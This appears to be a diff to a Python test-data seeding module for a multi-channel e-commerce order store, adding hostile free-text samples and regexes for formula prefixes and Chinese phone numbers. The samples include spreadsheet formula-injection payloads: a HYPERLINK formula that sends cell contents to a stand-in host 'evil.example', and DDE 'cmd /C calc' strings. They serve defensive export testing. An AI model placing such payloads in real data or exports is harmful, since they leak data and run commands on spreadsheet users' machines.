@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import random
+import re
 from dataclasses import dataclass, field
 from datetime import datetime, timedelta
 
 from sqlalchemy import Engine, func, insert, select, text
 
 from core import clock
+from core.access import ROLES, can
 from core.db import channels, open_store, order_events, order_lines, orders, shops, skus, transaction
 
 CHANNELS = [("taobao", "淘宝/天猫", 500), ("jd", "京东", 800), ("pdd", "拼多多", 300), ("shopify", "Shopify", 200)]
@@ -44,6 +46,22 @@ PROVINCES = [
     "火星",
 ]
 STAFF = ["王芳", "李雷", "张伟"]
+# What a hostile store holds in its free text: formula prefixes, phones, long numbers, emoji, RTL.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+86 139 1234 5678 请放门口",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "上海市浦东新区世纪大道100号 联系电话13912345678",
+    "备用电话 021-62345678，订单 3082612345678901234",
+    "🐱 猫粮 \u202e RTL",
+]
+EXPORTERS = sorted(role for role in ROLES if can(role, "export"))
+FORMULA_START = re.compile(r"^[=+\-@\t\r]")
+MOBILE = re.compile(r"(?<![0-9])1[3-9][0-9][ -]?[0-9]{4}[ -]?[0-9]{4}(?![0-9])")
+LANDLINE = re.compile(r"(?<![0-9])0[1-9][0-9]{1,2}-[0-9]{7,8}(?![0-9])")
 RETURN_REASONS = ["七天无理由", "发错货/漏发", "质量问题", "尺码不合适", "与描述不符", "不想要了"]
 
 
